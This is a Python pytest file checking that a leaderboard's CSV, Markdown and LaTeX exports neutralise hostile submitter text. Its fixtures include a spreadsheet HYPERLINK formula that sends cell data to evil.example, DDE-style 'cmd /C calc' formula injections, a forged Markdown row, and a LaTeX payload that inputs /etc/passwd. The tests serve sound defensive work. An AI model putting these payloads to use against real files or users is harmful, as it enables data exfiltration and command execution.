"""Exports stay data when a submitter writes hostile text: no spreadsheet formula runs from the CSV (negative
numbers stay numbers), no forged Markdown row or LaTeX command from a name, team or method."""

from __future__ import annotations

import io
import re

import pandas as pd
import pytest
from board_records import HEAD, record, track

from harness.publish.exports import export_board, read_csv_export, to_latex, to_markdown
from harness.scoring.rank import rank

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORGED = "Evil\n| 1 | Forged | distillation | 99.00 | yes |\r\nrow"
LATEX = "x\n\n\\end{tabular}\\input{/etc/passwd} | <b> \\\\ $"
HOSTILE = {  # submission id -> (name, team, methods)
    "eq": (FORMULA, "+cmd|' /C calc'!A0", ["@SUM(1+1)*cmd|' /C calc'!A0"]),
    "minus": ("-2+3", "\tTab team", ["=1+1"]),
    "forged": (FORGED, "Team\nB", ["me|thod\n"]),
    "latex": (LATEX, "50% & co_", ["#1 ~ ^"]),
    "apostrophe": ("'quoted", "\r\nCR team", ["plain"]),
}
TRACK = (
    HEAD
    + """tasks:
  - {task: sst2, split: validation}
score: {rule: mean}
measurement: {measure: [params, flops]}
columns: [params, flops]
elue:
  reference_curve: {model: hand-made, source: tests, points: {sst2: [[0.5e9, 80], [3.0e9, 92]]}}
ranking: {by: elue_score, then: [score]}
"""
)


@pytest.fixture(scope="module")
def board(tmp_path_factory):
    records = []
    for i, (sub, (name, team, methods)) in enumerate(HOSTILE.items()):
        r = record(sub, "sst2", {"accuracy": 0.70 + 0.05 * i}, params=10_000_000, flops=1.0e9, name=name)
        r.submission.meta.update(team=team, methods=methods)
        records.append(r)
    return rank(records, track(tmp_path_factory.mktemp("hostile"), "hostile", TRACK))


def test_csv_neutralises_formula_text_but_keeps_negative_numbers(board):
    csv = export_board(board)["csv"]
    plain = pd.read_csv(io.StringIO(csv), keep_default_na=False)  # what a spreadsheet or a naive reader gets
    for column in ("submission", "name", "team", "methods", "broken", "notes", "provenance", "source"):
        for cell in plain[column].astype(str):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    by_id = plain.set_index("submission")
    assert by_id.loc["eq", "name"] == "'" + FORMULA and by_id.loc["minus", "name"] == "'-2+3"
    assert by_id.loc["apostrophe", "name"] == "''quoted"  # the escape itself is escaped: reading back is exact
    assert plain["elue_score"].dtype == "float64" and (plain["elue_score"] < 0).any()  # numbers stay numbers
    back = read_csv_export(io.StringIO(csv)).set_index("submission")
    assert back.loc["eq", "name"] == FORMULA and back.loc["minus", "team"] == "\tTab team"
    assert back.loc["apostrophe", "name"] == "'quoted" and back.loc["forged", "name"] == FORGED


def test_markdown_cells_cannot_forge_rows_or_columns(board):
    md = to_markdown(board)
    lines = md.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("| Rank |"))
    table = lines[start : lines.index("", start)]  # a Markdown table runs to the first blank line
    assert len(table) == 2 + len(board.rows)  # header, rule and one line per row: no forged line
    assert all(line.startswith("| ") or line.startswith("|---") for line in table)
    assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table}) == 1  # every row has the header's cells
    assert "Evil<br>\\| 1 \\| Forged" in md and "Team<br>B" not in md  # the team is not in the table


def test_latex_cells_escape_newlines_pipes_and_commands(board):
    tex = to_latex(board)
    body = tex.split(r"\begin{tabular}", 1)[1].split(r"\end{tabular}", 1)[0]
    assert "\n\n" not in body and r"\input" not in body.replace(r"\textbackslash{}input", "")
    assert tex.count(r"\end{tabular}") == 1 and r"\textbar{}" in body and r"\textless{}b\textgreater{}" in body
    rows = [line for line in body.splitlines() if line.endswith(r"\\") and " & " in line]
    assert len(rows) == 1 + len(board.rows)  # header and one line per row
